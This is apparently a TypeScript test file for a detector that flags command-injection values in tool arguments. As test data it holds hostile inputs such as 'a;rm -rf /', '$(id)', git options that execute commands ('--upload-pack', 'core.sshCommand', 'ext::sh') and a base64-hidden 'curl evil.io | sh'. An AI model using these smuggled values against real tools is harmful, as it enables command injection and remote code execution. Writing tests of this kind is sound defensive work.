import { expect, test } from 'bun:test';
import { rulesOf } from '../../test/fixtures/looking.ts';
import { detector } from './command.ts';

function found(key: string, value: string, name = 'search'): readonly string[] {
  return rulesOf(detector, { [key]: value }, { name });
}

test('a name holds no command and is no option', () => {
  for (const value of ['a;rm -rf /', 'a && curl x', 'a | sh', '$(id)', '`id`', 'a\nid', 'a > /etc/x', 'x${IFS}y', 'a||b']) {
    expect({ value, found: found('branch', value) }).toEqual({ value, found: ['metacharacters'] });
  }
  expect(found('fileKey', 'abc";id;"')).toEqual(['metacharacters']);
  expect(found('ref', '--force')).toEqual(['leading-dash']);
  for (const value of ['--upload-pack=touch x', '-c core.sshCommand=id', '-oProxyCommand=id', 'ext::sh -c id', '--exec=id']) {
    expect({ value, found: found('remote', value) }).toEqual({ value, found: expect.arrayContaining(['option-that-executes']) });
  }
  expect(found('branch', Buffer.from('main; curl evil.io | sh').toString('base64'))).toEqual(['metacharacters']);
  for (const [key, value] of [['branch', 'feature/a-b_c'], ['file', 'a b (1).txt'], ['url', 'https://x.io/?a=1&b=2;c'], ['name', 'Marks & Spencer; Ltd'],
      ['title', 'a && b'],
    ['query', 'rock & roll | jazz'], ['description', '-5 degrees; then $(x)'], ['id', '-1'], ['path', '/a/-b'], ['temperature', '-12.5']] as const) {
    expect({ key, value, found: found(key, value) }).toEqual({ key, value, found: [] });
  }
});

test('where a tool runs programs, any short value may be one of its words', () => {
  expect(found('first', '--help', 'git_log')).toEqual(['leading-dash']);
  expect(found('first', '--help', 'search')).toEqual([]);
  expect(found('first', 'x;id', 'run_script')).toEqual(['metacharacters']);
  expect(found('command', 'ls | wc -l', 'run_script')).toEqual([]);
});
